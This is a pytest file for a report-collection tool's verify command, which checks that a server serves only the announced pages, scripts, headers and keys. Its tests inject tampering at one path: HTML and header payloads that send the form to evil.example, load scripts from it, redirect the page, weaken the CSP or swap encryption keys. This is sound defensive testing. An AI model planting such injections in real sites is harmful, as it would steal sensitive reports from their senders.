"""Lies of a server that would read a report before it is sealed: `suluh verify` names each of them."""

from __future__ import annotations

import gzip
import json
import threading
from contextlib import contextmanager
from functools import partial
from typing import TYPE_CHECKING

import pytest
from flask import request
from werkzeug.serving import make_server

from collector.cli import verify
from collector.core.age import hybrid_recipient
from collector.web import guard
from collector.web.rendering import Announced, public_keys

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from flask import Flask, Response

    from collector.core.opening import HybridIdentity
    from collector.forms.schema import FormSpec

PAGE = "<!doctype html><html lang=id><meta charset=utf-8><body><header></header><main>Beranda</main><script>1</script>"
EVIL = "https://evil.example"
Lie = "Callable[[Response], None]"


@pytest.fixture
def build(tmp_path: Path) -> Path:
    """A small build: pages, what an honest server sends packed, and the scripts that a form page loads."""
    build = tmp_path / "build"
    for name in ("publik/index.html", "publik/cara/index.html", "publik/404.html"):
        (build / name).parent.mkdir(parents=True, exist_ok=True)
        (build / name).write_text(PAGE)
    (build / "publik/sitemap.xml.gz").write_bytes(gzip.compress(b"<urlset/>"))
    (build / "client").mkdir()
    for name in ("enclosing.js", "exit.js", "form.js", "mailbox.js", "worker.js", "work.css"):
        (build / "client" / name).write_text(f"/* {name} */")
    return build


@pytest.fixture
def said(build: Path, identity: HybridIdentity) -> Announced:
    """What is announced of the honest server."""
    contacts = dict.fromkeys(("danger", "danger-box"), '<a class="call" href="tel:110">110</a>')
    keys = public_keys([identity.recipient], {})
    return Announced(keys, contacts, guard.integrities(build / "client"), "Senin sampai Jumat, 08.00–15.00", demo=False)


@pytest.fixture
def faults(
    make_app: Callable[..., Flask], build: Path, said: Announced, forms: dict[str, FormSpec]
) -> Callable[..., list[str]]:
    """What verify says of a server that lies at one path."""

    def judge(path: str = "/", lie: Lie | None = None, **changes: object) -> list[str]:
        app = make_app(public_site=build / "publik", client=build / "client", **changes)
        app.config["TRUSTED_HOSTS"] = None
        if lie:
            app.after_request_funcs[None].insert(0, lying(path, lie))  # the last word, behind our own headers
        wanted = verify.expected(build, forms, said)
        with serving(app) as origin:
            marks = [key.fingerprint for key in said.keys]
            return [*verify.differences(origin, wanted), *verify.key_faults(origin, marks)]

    return judge


def lying(path: str, lie: Lie) -> Callable[[Response], Response]:
    """A server that answers honestly everywhere but at one path."""

    def after(response: Response) -> Response:
        if request.path == path:
            response.direct_passthrough = False
            lie(response)
        return response

    return after


@contextmanager
def serving(app: Flask) -> Iterator[str]:
    """Serve an application on a loopback port, and give its origin."""
    server = make_server("127.0.0.1", 0, app, threaded=True)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    yield f"http://127.0.0.1:{server.port}"
    server.shutdown()
    thread.join()
    server.server_close()


def put_in(html: str) -> Lie:
    """A lie that stands in the page's head."""
    return lambda response: response.set_data(response.get_data().replace(b"<body>", html.encode() + b"<body>", 1))


def put_json(value: object, response: Response) -> None:
    """A lie that is the whole answer."""
    response.set_data(json.dumps(value))


def header(name: str, value: str) -> Lie:
    """A lie in a header."""
    return lambda response: response.headers.set(name, value)


def test_an_honest_server_passes(faults: Callable[..., list[str]]) -> None:
    """Every file, every form page and the mailbox are what the source says, a packed sitemap among them."""
    assert faults() == []


def test_a_form_that_an_operator_closed_is_no_lie(faults: Callable[..., list[str]], store: object) -> None:
    """What stands in a closed form's place is made from the source too."""
    store.close_form("laporan")
    assert faults() == []


@pytest.mark.parametrize("path", ["/lapor", "/kotak"])
@pytest.mark.parametrize(
    "lie",
    [
        lambda response: response.set_data(f'<form action="{EVIL}"><textarea name=a></textarea></form>'),
        put_in(f'<base href="{EVIL}/">'),
        put_in(f'<iframe srcdoc="&lt;script src={EVIL}/a.js&gt;&lt;/script&gt;"></iframe>'),
        put_in(f'<meta http-equiv="refresh" content="0;url={EVIL}">'),
        put_in('<a href="javascript:alert(1)">Lanjut</a>'),
        put_in(f'<link rel="modulepreload" href="{EVIL}/a.js">'),
        put_in(f"<!--><script src={EVIL}/a.js></script><!-- -->"),
        lambda response: response.set_data(
            response.get_data() + b" " * verify.LARGEST + f"<script src={EVIL}/a.js></script>".encode()
        ),
        header("Content-Type", "text/html; charset=iso-2022-jp"),
        header("Content-Encoding", "gzip"),
        header("Refresh", f"0;url={EVIL}"),
        header("Content-Disposition", "attachment; filename=lapor.html"),
        header("Link", f"<{EVIL}/a.js>; rel=modulepreload"),
        header("Set-Cookie", "who=1"),
        header("Content-Security-Policy", "default-src *"),
        lambda response: response.headers.pop("Content-Security-Policy"),
        lambda response: response.headers.add("Content-Security-Policy-Report-Only", f"report-uri {EVIL}"),
    ],
    ids=[
        "plain form", "base", "srcdoc", "meta refresh", "javascript", "modulepreload", "parser", "after 16 MiB",
        "charset", "encoding", "refresh", "download", "link", "cookie", "weak policy", "no policy", "reports",
    ],
)  # fmt: skip
def test_a_page_that_would_steal_a_report_is_named(faults: Callable[..., list[str]], path: str, lie: Lie) -> None:
    """One lie in the report's page or in the mailbox's, in its bytes or its headers, is found and named by its path."""
    found = faults(path, lie)
    assert found
    assert all(fault.startswith(path.lstrip("/") + ":") for fault in found)


@pytest.mark.parametrize("path", ["/static/form.js", "/static/worker.js", "/static/work.css", "/cara/"])
def test_one_byte_more_in_a_script_or_a_page_is_named(faults: Callable[..., list[str]], path: str) -> None:
    """The sealing code, which no form page holds itself, is compared whole, and so is every other file."""
    assert faults(path, lambda response: response.set_data(response.get_data() + b" "))


def test_keys_of_somebody_else_are_named(faults: Callable[..., list[str]], identity: HybridIdentity) -> None:
    """Another key, one more, or none: given beside honest pages, or named by the pages too."""
    stranger = hybrid_recipient(bytes(32))
    for keys in ([stranger], [identity.recipient, stranger], []):
        listed = {"recipients": [str(key) for key in keys]}
        found = faults("/api/recipients", partial(put_json, listed))
        assert [fault[: len(verify.KEYS)] for fault in found] == [verify.KEYS]
        assert len(faults(recipients=keys)) > 1


def test_without_an_announced_key_nothing_passes(faults: Callable[..., list[str]], said: Announced) -> None:
    """A server that has no key to be compared with fails, and is told why."""
    object.__setattr__(said, "keys", [])
    assert any("Belum ada kunci" in fault for fault in faults(recipients=[]))
